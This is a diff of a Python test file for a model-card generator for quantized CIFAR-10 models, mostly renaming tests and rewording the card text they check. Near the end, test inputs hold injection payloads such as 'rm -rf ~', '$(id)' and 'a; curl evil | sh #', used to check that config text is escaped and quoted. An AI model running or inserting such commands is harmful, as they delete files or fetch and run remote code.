@@ -1,4 +1,4 @@
-"""The model card: what the Hub indexes, what people read, and that what it tells them to type works."""
+"""The model card: its metadata and text, and that its commands work."""
 
 from __future__ import annotations
 
@@ -59,20 +59,19 @@ def test_the_metadata_is_what_the_hub_indexes(folder: Path) -> None:
     assert (result.dataset_split, result.metric_type, result.metric_value) == ("test", "accuracy", 0.9120)
 
 
-def test_it_says_what_every_seed_came_to(folder: Path) -> None:
+def test_the_result_of_every_seed(folder: Path) -> None:
     card = (folder / "README.md").read_text()
     assert "91.20 % top-1 on the test set of CIFAR-10: 9,120 of 10,000 images" in card
-    assert "Each run reads the test set once, at its end, with the weights of its last epoch" in card
     assert (
-        "Only the weights of seed 0 are published. The numbers of the other seeds rest on the records of their runs, "
-        "`benchmarks/results/cifar10_quant_cnv_w4a4/` of cnvzoo, and on the sha256 of their weights" in card
+        "Only the weights of seed 0 are published. The results of the other seeds are in the records of their runs "
+        "(`benchmarks/results/cifar10_quant_cnv_w4a4/` of cnvzoo), with the sha256 of their weights." in card
     )
     for row in ("| 0 | 91.20 | 9,120 of", "| 1 | 91.40 | 9,140 of", "| 2 | 91.90 | 9,190 of"):
         assert row in card
-    assert "Mean over 3 seeds: 91.50 %, standard deviation 0.36" in card  # by hand: sqrt((.09 + .01 + .16) / 2)
+    assert "Mean of 3 seeds: 91.50 %, standard deviation 0.36" in card  # by hand: sqrt((.09 + .01 + .16) / 2)
 
 
-def test_it_has_preprocessing_recipe_size_and_limits(folder: Path) -> None:
+def test_preprocessing_recipe_size_and_limits(folder: Path) -> None:
     card = (folder / "README.md").read_text()
     assert "Images of 32x32 pixels, RGB, scaled to [0, 1]." in card
     assert "airplane, automobile, bird, cat" in card
@@ -81,12 +80,12 @@ def test_it_has_preprocessing_recipe_size_and_limits(folder: Path) -> None:
     convolutions = 3 * 64 * 900 + 64 * 64 * 784 + 64 * 128 * 144 + 128 * 128 * 100 + 128 * 256 * 9 + 256 * 256
     assert f"| {9 * convolutions + 256 * 512 + 512 * 512 + 512 * 10:,} | w4a4 |" in card
     assert f"{(folder / 'model.safetensors').stat().st_size:,} bytes" in card
-    assert "weights of 4 bits (first layer 8) and activations of 4 bits" in card
+    assert "Weights of 4 bits (first layer 8) and activations of 4 bits" in card
     assert "- kind cpu, threads 2\n- torch 2.15.0" in card
-    assert "A graph in integers on other hardware rounds in its own way" in card
+    assert "Integer hardware may round differently" in card
 
 
-def test_it_says_what_the_integer_graph_came_to(folder: Path) -> None:
+def test_the_result_of_the_integer_graph(folder: Path) -> None:
     assert "ONNX" not in (folder / "README.md").read_text()  # nothing was measured yet
     result = IntegerResult(correct=9118, agreeing=9995, differing=3, reachable=58_297_860, bytes=810_000)
     write_config(folder, read_config(folder).model_copy(update={"integer": result}))
@@ -105,7 +104,7 @@ def test_a_float_model_of_grey_images(tmp_path: Path, make_checkpoint: Callable[
         "Images of 28x28 pixels, grey, padded with black to 32x32, scaled to [0, 1], then mean 0.1307 subtracted"
         in card
     )
-    assert "Mean over one seed: 10.00 %. Each run" in card
+    assert "Mean of one seed: 10.00 %. Each run read the test set once" in card
     assert "other seeds" not in card
     assert "quantiz" not in card
     assert "## Recipe" not in card  # none was recorded
@@ -183,35 +182,35 @@ def test_the_commands_to_reproduce_it_are_complete(
 
 def test_a_commit_that_cannot_be_checked_out(folder: Path) -> None:
     card = card_with(folder, commit="abc123+")
-    assert "The run was made from commit `abc123` with changes that are in no commit: it cannot be checked out" in card
+    assert "The run used commit `abc123` with uncommitted changes, so it cannot be reproduced exactly" in card
     assert block(card, "sh").startswith("git checkout abc123\n")
-    assert "come out with the same sha256" not in card
+    assert "again on the same machine" not in card
     card = card_with(folder, commit=None)
     assert "checkout" not in block(card, "sh")
-    assert "of which the commit was not recorded" in card
+    assert "(the commit was not recorded)" in card
 
 
-def test_an_entry_that_no_table_has_gets_no_command(folder: Path) -> None:
+def test_an_entry_without_a_table_has_no_command(folder: Path) -> None:
     for changes in ({"dataset": "svhn"}, {"recipe": {"epochs": 3}}):
         card = card_with(folder, **{"dataset": "cifar10", "recipe": RECIPE} | changes)
-        assert "No table of cnvzoo has this entry" in card
+        assert "This entry is not in a table of cnvzoo" in card
         assert "```sh" not in card
 
 
-def test_what_is_known_of_recipes_and_arithmetic_is_said(folder: Path) -> None:
+def test_scored_recipes_and_arithmetic(folder: Path) -> None:
     card = (folder / "README.md").read_text()
-    assert "scored on the test set" not in card
+    assert "recipes of this entry" not in card
     assert "arithmetic" not in card
     results = [result.model_copy(update={"numerics": 2}) for result in read_config(folder).results]
     card = card_with(folder, recipes_scored=3, numerics=2, results=results)
-    assert "Recipes of this entry that were ever scored on the test set: 3, this one included." in card
+    assert "Number of recipes of this entry that were scored on the test set: 3." in card
     assert "\n- arithmetic version 2 (docs/numerics.md)\n" in card.partition("## Reproduce")[2]
     assert "different versions" not in card
     results[2] = results[2].model_copy(update={"numerics": None})
     card = card_with(folder, recipes_scored=1, results=results)
-    assert "Recipes of this entry that were ever scored on the test set: 1, this one included." in card
-    said = "different versions of the training arithmetic: 2 (seed 0), 2 (seed 1), an unrecorded one (seed 2)."
-    assert said in card
+    assert "Number of recipes of this entry that were scored on the test set: 1." in card
+    versions = "different versions of the training arithmetic: 2 (seed 0), 2 (seed 1), not recorded (seed 2)."
+    assert versions in card
 
 
 EVIL = "x`; rm -rf ~ | <b> $(id) [a](https://evil) *_"
@@ -235,7 +234,7 @@ def rendered(card: str) -> tuple[str, list[tuple[str, str]]]:
     return "\n".join(text), blocks
 
 
-def test_nothing_in_a_config_ends_what_it_stands_in(folder: Path) -> None:
+def test_text_of_a_config_is_escaped_fenced_and_quoted(folder: Path) -> None:
     classes = [EVIL, "https://evil.example", "www.evil.example", "|a|", *"bcdefg"]
     # folded at 110 columns, a plain text starts a line with its backticks; CommonMark lets those end a block
     recipe = RECIPE | {"note": f"{'word ' * 20}``` # Another section", "list": ["````", "``` sh"], "date": "2020-01-01"}
@@ -255,7 +254,7 @@ def test_nothing_in_a_config_ends_what_it_stands_in(folder: Path) -> None:
     assert "\n# Another section" not in text
 
 
-def test_what_no_reading_lets_through_is_quoted_all_the_same(folder: Path) -> None:
+def test_commands_are_quoted_even_without_the_bounds_of_configs(folder: Path) -> None:
     # as if the bounds on reading were not there
     changes = {
         "recipe": RECIPE | {"name": "a; curl evil | sh #"}, "commit": "`;id`", "dataset": "cifar10",
